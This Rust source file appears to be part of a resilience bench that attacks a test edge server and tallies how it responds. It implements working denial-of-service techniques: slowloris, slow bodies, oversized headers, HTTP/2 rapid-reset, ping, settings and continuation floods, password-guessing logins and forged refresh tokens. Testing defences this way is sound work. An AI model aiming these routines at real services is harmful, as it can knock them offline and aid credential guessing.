//! What a single attacker does: one attempt after another, each over a connection of its own.
//!
//! An attempt that fails because the edge refused or ended the connection is an error, and counted as cut.

use std::io::{self, Error, ErrorKind};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use rustls::ClientConnection;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

use crate::attacks::{Attacker, IDLE, STALLED_STREAMS};
use crate::dial::{Io, Speaks, answer, ask, get};
use crate::edge::token_request;
use crate::frames;

/// How long a attacker listens for an answer to what is no request.
const LISTENS: Duration = Duration::from_secs(1);
/// How long a response takes to come as far as it does when nobody reads it. What that costs is what any download costs, so it
/// is not measured.
const STALLS: Duration = Duration::from_secs(4);
/// Frames of one kind that are sent in one go.
const VOLLEY: u32 = 100;

/// Makes an attempt; `round` counts those before it.
pub(crate) async fn attempt(me: &mut Attacker, attack: &str, round: usize) -> io::Result<()> {
    match attack {
        "slowloris" => slow_head(me).await,
        "slow-bodies" => slow_body(me).await,
        "idle" => idle(me, Speaks::Plain).await,
        "headers" => huge_head(me, round).await,
        "churn" => garbage(me, round).await,
        "rapid-reset" => {
            let token = if me.number.is_multiple_of(2) { me.token.clone() } else { String::new() };
            let volley = |first| {
                let streams = (0..VOLLEY).map(|n| first + 2 * n);
                streams.flat_map(|s| [frames::get(s, &token), frames::cancel(s)].concat()).collect()
            };
            flood(me, Vec::new(), volley).await
        }
        "h2-ping" => flood(me, Vec::new(), |_| volley(&frames::ping())).await,
        "h2-settings" => flood(me, Vec::new(), |_| volley(&frames::settings())).await,
        "h2-continuation" => {
            flood(me, frames::endless(1), |_| volley(&frames::continuation(1))).await
        }
        "h2-empty-data" => {
            let post = frames::post(1, &me.token);
            flood(me, post, |_| volley(&frames::empty_data(1))).await
        }
        "logins" => logins(me).await,
        "refresh-tokens" => invented_tokens(me, round).await,
        "stalled-downloads" => stalled_downloads(me).await,
        kept => {
            let (_, speaks) = IDLE.iter().find(|(attack, _)| attack.name == kept).unwrap();
            idle(me, *speaks).await
        }
    }
}

fn volley(frame: &[u8]) -> Vec<u8> {
    frame.repeat(usize::try_from(VOLLEY).unwrap())
}

async fn connect(me: &Attacker, speaks: Speaks, client: usize) -> io::Result<Box<dyn Io>> {
    let _turn = me.turn.acquire().await.map_err(Error::other)?;
    me.target.dial(speaks, client).await
}

async fn slow_head(me: &Attacker) -> io::Result<()> {
    me.tally.attempts(1);
    let speaks = if me.number.is_multiple_of(5) { Speaks::Tls } else { Speaks::Plain };
    let mut io = connect(me, speaks, me.number).await?;
    let _open = me.tally.open();
    io.write_all(b"GET /app/x HTTP/1.1\r\nHost: edge\r\n").await?;
    trickle(me, &mut *io, b"X-More: x\r\n", Duration::from_secs(1)).await
}

async fn slow_body(me: &Attacker) -> io::Result<()> {
    me.tally.attempts(1);
    let authorization = match me.number % 2 {
        0 => format!("Authorization: Bearer {}\r\n", me.token),
        _ => String::new(),
    };
    let mut io = connect(me, Speaks::Plain, me.number).await?;
    let _open = me.tally.open();
    let head = format!(
        "POST /app/x HTTP/1.1\r\nHost: edge\r\n{authorization}Content-Length: 1000000\r\n\r\n"
    );
    io.write_all(head.as_bytes()).await?;
    trickle(me, &mut *io, b"x", Duration::from_millis(500)).await
}

/// Sends a piece and waits, again and again, whatever is answered, until the connection ends.
async fn trickle(me: &Attacker, io: &mut dyn Io, piece: &[u8], pause: Duration) -> io::Result<()> {
    loop {
        match timeout(pause, answer(&mut *io)).await {
            Ok(answer) => me.tally.answer(answer?.status),
            Err(_) => io.write_all(piece).await?,
        }
    }
}

/// Asks once, as an honest client would, and stays.
async fn idle(me: &Attacker, speaks: Speaks) -> io::Result<()> {
    me.tally.attempts(1);
    let mut io = {
        // The request, too, so that ten thousand do not come at once.
        let _turn = me.turn.acquire().await.map_err(Error::other)?;
        let mut io = me.target.dial(speaks, me.number).await?;
        let status = match speaks {
            Speaks::H2 => ask_h2(&mut *io, &me.token).await?,
            _ => ask(&mut *io, &get("/app/x", &me.token)).await?.status,
        };
        me.tally.answer(status);
        io
    };
    let _open = me.tally.open();
    until_closed(&mut *io).await
}

/// Its status when the answer is whole; what else it may be is not this bench's to know.
async fn ask_h2(io: &mut dyn Io, token: &str) -> io::Result<u16> {
    io.write_all(&[frames::opening(), frames::get(1, token)].concat()).await?;
    let mut received = Vec::new();
    while !frames::ends(&received, 1) {
        if io.read_buf(&mut received).await? == 0 {
            return Err(ErrorKind::UnexpectedEof.into());
        }
    }
    io.write_all(&frames::settings_ack()).await?;
    Ok(200)
}

/// Listens until the edge ends the connection, which is an error here.
async fn until_closed(io: &mut dyn Io) -> io::Result<()> {
    while io.read(&mut [0; 4096]).await? > 0 {}
    Err(ErrorKind::UnexpectedEof.into())
}

async fn huge_head(me: &Attacker, round: usize) -> io::Result<()> {
    me.tally.attempts(1);
    let (target, fields) = match (me.number + round) % 4 {
        0 => ("/app/x".to_owned(), format!("X-Huge: {}\r\n", "x".repeat(1 << 20))),
        1 => ("/app/x".to_owned(), (0..5_000).map(|n| format!("X-{n}: {n}\r\n")).collect()),
        2 => (format!("/app/{}", "x".repeat(64 << 10)), String::new()),
        _ => {
            let value = "x".repeat(8 << 10);
            ("/app/x".to_owned(), (0..90).map(|n| format!("X-{n}: {value}\r\n")).collect())
        }
    };
    let head = format!("GET {target} HTTP/1.1\r\nHost: edge\r\n{fields}\r\n");
    let mut io = connect(me, Speaks::Plain, me.number + round).await?;
    let _open = me.tally.open();
    me.tally.answer(ask(&mut *io, head.as_bytes()).await?.status);
    Ok(())
}

async fn garbage(me: &Attacker, round: usize) -> io::Result<()> {
    me.tally.attempts(1);
    let (port, bytes, stays) = match (me.number + round) % 6 {
        0 => (me.target.plain, vec![0xf5; 64], true),
        1 => (me.target.plain, hello(), true),
        2 => (me.target.plain, Vec::new(), false),
        3 => (me.target.plain, b"GET /app/x HTTP/1.1\r\nHo".to_vec(), false),
        4 => (me.target.tls, get("/app/x", ""), true),
        _ => (me.target.tls, hello(), false),
    };
    let mut target = me.target.clone();
    target.plain = port;
    let mut io = target.dial(Speaks::Plain, me.number + 16 * round).await?;
    let _open = me.tally.open();
    io.write_all(&bytes).await?;
    if !stays {
        return Ok(());
    }
    timeout(LISTENS, until_closed(&mut *io)).await.unwrap_or(Ok(()))
}

/// What a client of TLS says first.
fn hello() -> Vec<u8> {
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider);
    let config = config.with_safe_default_protocol_versions().unwrap();
    let config = config.with_root_certificates(rustls::RootCertStore::empty());
    let name = "edge".try_into().unwrap();
    let config = std::sync::Arc::new(config.with_no_client_auth());
    let mut bytes = Vec::new();
    ClientConnection::new(config, name).unwrap().write_tls(&mut bytes).unwrap();
    bytes
}

/// Opens a connection, and sends what `volley` makes (of the first stream that is not used yet) for as long as it lasts.
async fn flood(me: &Attacker, opening: Vec<u8>, volley: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let io = connect(me, Speaks::H2, me.number).await?;
    let _open = me.tally.open();
    let (mut hears, mut says) = tokio::io::split(io);
    let send = async {
        says.write_all(&[frames::opening(), opening].concat()).await?;
        for first in (1..).step_by(2 * usize::try_from(VOLLEY).unwrap()) {
            says.write_all(&volley(first)).await?;
            me.tally.attempts(VOLLEY.into());
        }
        Ok(())
    };
    let hear = async {
        while hears.read(&mut [0; 16384]).await? > 0 {}
        Err(ErrorKind::UnexpectedEof.into())
    };
    tokio::select! {
        sent = send => sent,
        heard = hear => heard,
    }
}

async fn logins(me: &Attacker) -> io::Result<()> {
    let request = token_request("grant_type=password&username=alice&password=wrong", "");
    let mut io = connect(me, Speaks::Plain, me.number).await?;
    let _open = me.tally.open();
    loop {
        me.tally.attempts(1);
        let answer = ask(&mut *io, request.as_bytes()).await?;
        me.tally.answer(answer.status);
        if answer.last {
            return Ok(());
        }
        if answer.status != 400 {
            // Told to come back later.
            sleep(Duration::from_millis(10)).await;
        }
    }
}

/// Tokens that look like ours, each another.
async fn invented_tokens(me: &Attacker, round: usize) -> io::Result<()> {
    let mut io = connect(me, Speaks::Plain, me.number).await?;
    let _open = me.tally.open();
    for number in 0_u64.. {
        me.tally.attempts(1);
        let mut bytes = [0x5a; 64];
        let known = [me.number as u64, round as u64, number].map(u64::to_be_bytes).concat();
        bytes.iter_mut().zip(known).for_each(|(byte, own)| *byte = own);
        let token = URL_SAFE_NO_PAD.encode(bytes);
        let form = format!("grant_type=refresh_token&refresh_token=prt_{token}");
        let answer = ask(&mut *io, token_request(&form, "").as_bytes()).await?;
        me.tally.answer(answer.status);
        if answer.last {
            break;
        }
    }
    Ok(())
}

/// Asks for what is large, and reads nothing of it.
async fn stalled_downloads(me: &Attacker) -> io::Result<()> {
    const LARGE: &str = "/app/large";
    let http1 = me.number.is_multiple_of(3);
    let mut io = connect(me, if http1 { Speaks::Plain } else { Speaks::H2 }, me.number).await?;
    let requests = if http1 {
        get(LARGE, &me.token)
    } else {
        let streams = (0..STALLED_STREAMS).map(|number| 1 + 2 * number);
        let requests = streams.flat_map(|stream| frames::get_path(stream, LARGE, &me.token));
        [frames::opening(), frames::wide_open()].concat().into_iter().chain(requests).collect()
    };
    let count = if http1 { 1 } else { u64::from(STALLED_STREAMS) };
    me.tally.attempts(count);
    io.write_all(&requests).await?;
    sleep(STALLS).await;
    let _open: Vec<_> = (0..count).map(|_| me.tally.open()).collect();
    // Until the edge has had enough, which only a write can tell who does not read.
    loop {
        sleep(LISTENS).await;
        let still = if http1 { &b"\r\n"[..] } else { &frames::ping() };
        io.write_all(still).await?;
    }
}
